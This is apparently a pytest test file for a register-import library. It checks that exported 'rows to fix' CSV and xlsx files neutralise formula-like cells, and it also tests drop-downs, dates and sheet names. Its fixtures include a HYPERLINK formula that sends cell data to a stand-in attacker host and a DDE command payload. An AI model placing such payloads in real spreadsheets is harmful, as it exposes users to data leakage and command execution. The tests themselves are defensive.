"""The "rows to fix" file never turns a header or a cell into a formula (CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from libtrainer.i18n import set_language
from libtrainer.services.register import import_register
from libtrainer.services.register.read import read_register
from libtrainer.store.store import Store

from .support import KEYS, headers, row, write_register

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _register(path: Path) -> Path:
    """A ;-separated CSV register with an extra column headed LINK; row 3 is bad."""
    rows = [
        row(given_name="Rita", note="=1+1"),
        row(given_name="Vitas", family_name="-Ūsas", birth_year="senas", note=DDE),
    ]
    return write_register(path, rows, keys=[*KEYS, "note"], header=[*headers("en"), LINK])


def test_bad_rows_xlsx_keeps_a_formula_like_header_as_text(store: Store, tmp_path: Path) -> None:
    """A CSV header beginning with "=" is a string cell in the xlsx of bad rows, as typed."""
    out = tmp_path / "bad.xlsx"
    result = import_register(store, _register(tmp_path / "r.csv"), skip_bad=True, bad_rows_out=out)
    assert result.bad_rows == [3]
    sheet = load_workbook(out).worksheets[0]
    header = {c.value: c for c in sheet[1]}
    assert header[LINK].data_type == "s"
    data = {c.value: c for c in sheet[2]}
    assert data[DDE].data_type == "s" and data["-Ūsas"].data_type == "s"
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_bad_rows_csv_quotes_formula_like_text_and_reads_back_as_typed(
    store: Store, tmp_path: Path
) -> None:
    """In a bad-rows CSV, =… -… @… cells start with ' and importing the file drops the quote."""
    out = tmp_path / "bad.csv"
    import_register(store, _register(tmp_path / "r.csv"), skip_bad=True, bad_rows_out=out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        head, body = list(csv.reader(fh, delimiter=";"))
    assert head[len(KEYS)] == "'" + LINK
    assert "'" + DDE in body and "'-Ūsas" in body and "senas" in body
    table = read_register(out)
    assert LINK in table.headers
    assert DDE in table.rows[0].cells and "-Ūsas" in table.rows[0].cells


def test_bad_rows_xlsx_has_the_templates_drop_downs_and_instructions(
    store: Store, tmp_path: Path
) -> None:
    """The rows to fix get drop-down lists on vocabulary columns, header notes and instructions."""
    set_language("lt")
    rows = [row(given_name="Rita"), row(given_name="Vitas", gender="Vyriškas")]
    out = tmp_path / "taisyti.xlsx"
    register = write_register(tmp_path / "r.xlsx", rows, lang="lt")
    result = import_register(store, register, skip_bad=True, bad_rows_out=out)
    assert result.bad_rows == [3]
    wb = load_workbook(out)
    sheet = wb.worksheets[0]
    assert [ws.title for ws in wb.worksheets[1:]] == ["Nurodymai", "lists"]
    assert wb["lists"].sheet_state == "hidden"
    letter = {c.value: c.column_letter for c in sheet[1]}["Lytis"]
    lists = [dv for dv in sheet.data_validations.dataValidation if dv.type == "list"]
    assert any(f"{letter}2" in str(dv.sqref) for dv in lists)
    assert sheet[f"{letter}1"].comment is not None
    guide = [c.value for c in wb["Nurodymai"]["A"] if c.value]
    assert len(guide) > len(KEYS)
    assert read_register(out).rows[0].values["gender"] == "Vyriškas"


def test_a_day_month_date_of_a_saved_row_keeps_the_files_order(
    store: Store, tmp_path: Path
) -> None:
    """A row of a month/day file (6/30/2025 proves it) saved to fix comes back as 7 June,
    written year-month-day: alone, 6/7/2025 would be read as 6 July."""
    rows = [
        row(date="6/30/2025"),
        row(date="6/7/2025", given_name="", family_name="Žemaitė"),
    ]
    out = tmp_path / "fix.csv"
    import_register(
        store, write_register(tmp_path / "us.csv", rows), skip_bad=True, bad_rows_out=out
    )
    (saved,) = read_register(out).rows
    assert saved.values["date"] == "2025-06-07"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_rows_to_fix_from_several_sheets_name_each_rows_sheet(
    store: Store, tmp_path: Path, suffix: str
) -> None:
    """The rows to fix of a workbook with register sheets "Sausis" and "Vasaris 2025" have a
    Sheet column naming each row's sheet; importing the fixed file ignores it, and rows still
    wrong keep their sheet in the next file to fix."""
    wb = Workbook()
    for month, title, bad in ((1, "Sausis", "Jonas"), (2, "Vasaris 2025", "Petras")):
        ws = wb.active if month == 1 else wb.create_sheet(title)
        ws.title = title
        ws.append(headers("en"))
        ws.append([row(given_name="Ona", date=dt.date(2025, month, 10))[k] for k in KEYS])
        ws.append([row(given_name=bad, birth_year=2090)[k] for k in KEYS])
    wb.save(tmp_path / "r.xlsx")
    out = tmp_path / f"fix{suffix}"
    result = import_register(store, tmp_path / "r.xlsx", skip_bad=True, bad_rows_out=out)
    assert [str(n) for n in result.bad_rows] == ["Sausis!3", "Vasaris 2025!3"]
    table = read_register(out)
    assert table.headers[-2:] == ["Sheet", "Error"] and table.keys[-2:] == ["", ""]
    assert [(r.values["given_name"], r.cells[-2]) for r in table.rows] == [
        ("Jonas", "Sausis"),
        ("Petras", "Vasaris 2025"),
    ]
    assert table.unknown_headers == []
    again = tmp_path / f"again{suffix}"
    import_register(store, out, skip_bad=True, bad_rows_out=again)
    assert [r.cells[-2] for r in read_register(again).rows] == ["Sausis", "Vasaris 2025"]


def test_rows_to_fix_of_one_sheet_have_no_sheet_column(store: Store, tmp_path: Path) -> None:
    """A one-sheet register's rows to fix keep their present look: no Sheet column."""
    out = tmp_path / "fix.xlsx"
    register = write_register(tmp_path / "r.xlsx", [row(), row(birth_year=2090)])
    import_register(store, register, skip_bad=True, bad_rows_out=out)
    assert read_register(out).headers[-2:] == [headers("en")[-1], "Error"]
